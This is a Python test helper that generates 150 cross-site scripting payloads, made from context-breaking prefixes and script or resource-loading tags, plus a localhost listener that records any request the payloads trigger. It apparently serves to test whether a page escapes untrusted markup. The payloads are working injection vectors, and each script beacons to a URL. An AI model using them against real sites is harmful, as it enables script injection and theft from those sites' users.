"""Texts that would run, or call out, if a page took them for markup; and a listener that hears it when one does."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

BREAKS = ("", '">', "'>", "</script>", "--></style></title></textarea>", "]]></p></td>")
SCRIPTS = (
    "<script>JS</script>", "<script src=URL></script>", '<img src=x onerror="JS">', '<svg onload="JS">',
    "<svg><script>JS</script></svg>", '<body onload="JS">', '<iframe srcdoc="<script>JS</script>"></iframe>',
    '<iframe src="javascript:JS"></iframe>', "<iframe src=URL></iframe>", "<object data=URL></object>",
    "<embed src=URL>", '<video><source onerror="JS"></video>', '<details open ontoggle="JS">x</details>',
    '<input autofocus onfocus="JS">', '<style onload="JS"></style>', "<style>@import 'URL'</style>",
    '<div style="background:url(URL)">x</div>', "<img src=URL>", "<link rel=stylesheet href=URL>",
    "<link rel=prefetch href=URL>", '<meta http-equiv="refresh" content="0;url=URL">',
    "<video poster=URL autoplay></video>", "<svg><image href=URL /></svg>", "<audio src=URL autoplay>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
)  # fmt: skip


def payloads(url: str) -> list[str]:
    """150 texts. What runs says so at `url`, in a variable of the page, and in a dialogue."""
    script = f"self.hit=1;try{{top.hit=1}}catch{{}};new Image().src=`{url}`;alert(1)"
    return [(start + body).replace("JS", script).replace("URL", url) for start in BREAKS for body in SCRIPTS]


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """(a URL of another site, what was asked for there)."""
    heard: list[str] = []

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(200)
            self.send_header("content-length", "0")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/hit", heard
    finally:
        server.shutdown()
        thread.join()
        server.server_close()
